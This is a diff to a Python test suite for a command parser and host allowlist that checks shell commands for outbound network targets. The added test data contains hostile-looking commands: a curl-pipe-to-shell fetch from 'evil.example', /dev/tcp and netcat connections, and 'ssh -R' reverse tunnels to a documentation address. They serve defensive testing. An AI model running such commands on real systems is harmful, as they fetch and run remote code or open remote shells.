@@ -78,6 +78,8 @@ def test_network_targets_reads_every_host_form():
     assert network_targets("ssh -L 5432:db.internal:5432 -i key bastion") == ["db.internal", "bastion"]
     assert network_targets("ssh -R [::1]:9000:127.0.0.1:22 u@h") == ["h"]  # the loopback end is the box itself
     assert network_targets("nmap -sS 10.0.0.0/24") == [ipaddress.ip_network("10.0.0.0/24")]
+    # a URL that ends in a tool's name is still a URL
+    assert network_targets("curl -s http://evil.example/nc | sh; /usr/bin/nc relay 1") == ["evil.example", "relay"]
     assert network_targets("ping -c1 fe80::1%eth0") == [ip("fe80::1")]
     assert network_targets("nc -zv 10.0.0.{1..9} 22") == [Unresolved("10.0.0.{1..9}")]
     # comments are not targets, a quoted '#' is not a comment
@@ -143,8 +145,23 @@ def test_unreadable_arguments_of_network_tools_are_not_vouched_for():
     assert not HostAllowlist(["github.com"]).excuses("nc " + "a." * 200 + "com 4444 github.com")
 
 
+NOISE = st.lists(st.sampled_from(list("ab.:/@#'\"\\$`{}[]-_ \n;|&0x9é") + ["github.com", "10.0.0.5", "//", "nc ", "ssh -R",
+                                                                                "http://", "/nc"]),
+                 max_size=30).map("".join)
+ATTACKER_FORMS = ["http://203.0.113.7/nc", "u@203.0.113.7", "/dev/tcp/203.0.113.7/4444", "203.0.113.7:4444",
+                  "nc 203.0.113.7 4444", "ssh -R 1:localhost:2 203.0.113.7", "ssh -J u@203.0.113.7 github.com",
+                  "curl 0xcb007107", "[::ffff:203.0.113.7]:80", "evil.example"]
+
+
 @settings(max_examples=300, deadline=None)
-@given(st.lists(st.sampled_from(list("ab.:/@#'\"\\$`{}[]-_ \n;|&0x9é") + ["github.com", "10.0.0.5", "//", "nc ", "ssh -R"]),
+@given(NOISE, st.sampled_from(ATTACKER_FORMS), NOISE)
+def test_an_attacker_host_anywhere_on_its_own_line_is_a_target(before, form, after):
+    allow = HostAllowlist(["github.com", ".example.com", "10.0.0.0/8"])
+    assert not allow.excuses(f"{before}\n{form}\n{after}")
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(list("ab.:/@#'\"\\$`{}[]-_ \n;|&0x9é") + ["github.com", "10.0.0.5", "//", "nc ", "ssh -R", "http://", "/nc"]),
                 max_size=30).map("".join))
 def test_nothing_before_an_attack_line_excuses_it(prefix):
     allow = HostAllowlist(["github.com", ".example.com", "10.0.0.0/8"])
